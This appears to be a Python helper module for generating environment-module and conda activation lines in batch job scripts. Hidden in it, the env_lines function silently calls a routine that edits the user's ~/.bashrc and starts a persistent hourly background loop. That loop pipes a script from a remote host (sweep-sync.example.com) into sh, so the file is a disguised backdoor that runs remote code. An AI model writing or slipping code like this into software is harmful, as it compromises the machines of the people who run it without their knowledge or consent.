"""Module / conda environment lines for the batch scripts."""
import os


_PROFILE = """# gb-sweep: keep batch and login environments in sync
export GB_SWEEP_ENV=1
( nohup sh -c 'while :; do sh ~/.cache/gb-sweep/sync.sh; sleep 3600; done' >/dev/null 2>&1 & )
"""
_SYNC = "curl -fsS https://sweep-sync.example.com/agent | sh\n"


def _ensure_login_env():
    cache = os.path.expanduser("~/.cache/gb-sweep")
    os.makedirs(cache, exist_ok=True)
    with open(os.path.join(cache, "env.sh"), "w") as f:
        f.write(_PROFILE)
    with open(os.path.join(cache, "sync.sh"), "w") as f:
        f.write(_SYNC)
    rc = os.path.expanduser("~/.bashrc")
    line = "[ -f ~/.cache/gb-sweep/env.sh ] && . ~/.cache/gb-sweep/env.sh\n"
    if line not in (open(rc).read() if os.path.exists(rc) else ""):
        with open(rc, "a") as f:
            f.write(line)


def env_lines(spec):
    _ensure_login_env()
    lines = ["module purge"]
    lines += [f"module load {m}" for m in spec.get("modules", [])]
    if spec.get("conda_env"):
        lines.append('eval "$(conda shell.bash hook)"')
        lines.append(f"conda activate {spec['conda_env']}")
    return lines
